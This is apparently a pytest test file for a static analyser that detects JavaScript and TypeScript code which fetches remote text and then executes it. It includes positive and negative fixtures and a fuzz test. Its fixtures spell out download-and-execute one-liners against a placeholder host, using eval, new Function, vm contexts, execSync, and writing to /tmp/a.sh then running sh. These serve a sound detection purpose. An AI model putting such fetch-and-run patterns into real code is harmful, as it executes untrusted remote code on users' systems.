"""What JavaScript and TypeScript lead to: only that fetched text is executed is read."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pinfold.language import javascript
from pinfold.language.context import Context
from pinfold.model import ActKind, Place

URL = "https://rules.example/v1.js"


def acts_of(source, cut=None):
    """Return the acts of ``source``; offsets stand in line and column."""
    place = lambda start, end: Place("x.js", line=start, column=end)  # noqa: E731
    return javascript.acts(source, Context(place=place, cut=[] if cut is None else cut))


RUN = {
    "await": f'const a = await fetch("{URL}"); const b = await a.text(); eval(b);',
    "in one": f'eval(await (await fetch("{URL}")).text());',
    "then": f'fetch("{URL}").then((a) => a.text()).then((b) => new Function("x", b)(1));',
    "named address": f'const U = "{URL}";\nconst b = await (await fetch(U)).text();\nnew Function(b)();',
    "parts": (
        f'https.get("{URL}", (a) => {{ let s = ""; a.on("data", (d) => {{ s += d; }}); a.on("end", () => eval(s)); }});'
    ),
    "unpacked": f'const {{ data }} = await axios.get("{URL}"); vm.runInNewContext(data, {{}});',
    "unpacked by a function": f'axios.get("{URL}").then(({{ data }}) => vm.runInThisContext(data));',
    "typed": f'const a: string = await got.get("{URL}").text();\nnew vm.Script(a).runInThisContext();',
    "maker": (
        "const M = Object.getPrototypeOf(async function () {}).constructor;\n"
        f'const s = await fetch("{URL}");\nnew M(s);'
    ),
    "other name": f'const run = (0, eval);\nconst s = await fetch("{URL}");\nrun(s);',
    "module": f'const s = await fetch("{URL}");\nm._compile(s, "x");',
    "shell": f'const s = await fetch("{URL}");\nchild_process.execSync(s);',
}

FILES = {
    "file": f'const s = await fetch("{URL}"); writeFileSync("/tmp/a.sh", s); execSync("sh /tmp/a.sh");',
    "named file": f'const s = await fetch("{URL}"); fs.writeFileSync(target, s); spawn("sh", [target]);',
}

LEFT = {
    "constant": 'fetch(u); new Function("a", "return a + 1");',
    "data in a call": "const a = await fetch(u); const f = new Function('n', 'return n'); f(a);",
    "a regular expression": "const a = await fetch(u); /x/.exec(a);",
    "a picture is changed": (
        "const s = await fetch(u); writeFileSync(image, s); execFile('convert', [image, 'x.png']);"
    ),
    "an argument": "const a = await fetch(u); execSync(`git clone ${a.url}`);",
    "nothing fetched": "const a = read(); eval(a);",
    "a member of that name": "const a = await fetch(u); metric.eval(a);",
    "short names of a packer": f"var t=fetch(u);{' ' * 2_100}eval(t)",
}


@pytest.mark.parametrize("source", RUN.values(), ids=RUN)
def test_fetched_text_is_run(source):
    found = acts_of(source)
    assert [act.kind for act in found] == [ActKind.EXEC]
    assert found[0].fields["PipedFrom"] == "fetch"
    assert found[0].fields["PipedFromUrl"] == URL
    assert str(found[0].fields["CommandLine"]).startswith("eval(")


@pytest.mark.parametrize("source", LEFT.values(), ids=LEFT)
def test_other_code_is_left_alone(source):
    assert acts_of(source) == []


@pytest.mark.parametrize("source", FILES.values(), ids=FILES)
def test_a_fetched_file_is_run(source):
    found = acts_of(source)
    assert [act.fields["PipedFrom"] for act in found] == ["fetch"]


def test_a_one_liner():
    assert [fields["CommandLine"] for fields in javascript.runs(RUN["in one"])] == [
        f'eval(await (await fetch("{URL}")).text())'
    ]
    assert javascript.runs("1 + 1") == []


def test_the_act_stands_at_the_call():
    source = f'const a = await fetch("{URL}");\neval(a);'
    assert acts_of(source)[0].place.line == source.index("eval(")


def test_many_calls_are_told():
    cut = []
    acts_of("fetch(u);" + "eval(b);" * (javascript.MAX_CALLS + 1), cut)
    assert cut == [f"a program of more than {javascript.MAX_CALLS:,} calls that execute text"]


def test_many_assignments_are_told():
    cut = []
    acts_of("fetch(u);eval(b);" + "a=b;" * (javascript.MAX_STATEMENTS + 1), cut)
    assert cut == [f"a program of more than {javascript.MAX_STATEMENTS:,} assignments"]


PIECES = [
    "fetch(",
    "eval(",
    "a",
    "b",
    "=",
    "+=",
    "=>",
    "(",
    ")",
    "{",
    "}",
    '"',
    "`",
    ";",
    "\n",
    ".then(",
    ".constructor",
]


@given(st.lists(st.sampled_from(PIECES), max_size=200).map("".join))
def test_any_text(text):
    for act in acts_of(text):
        assert act.kind is ActKind.EXEC
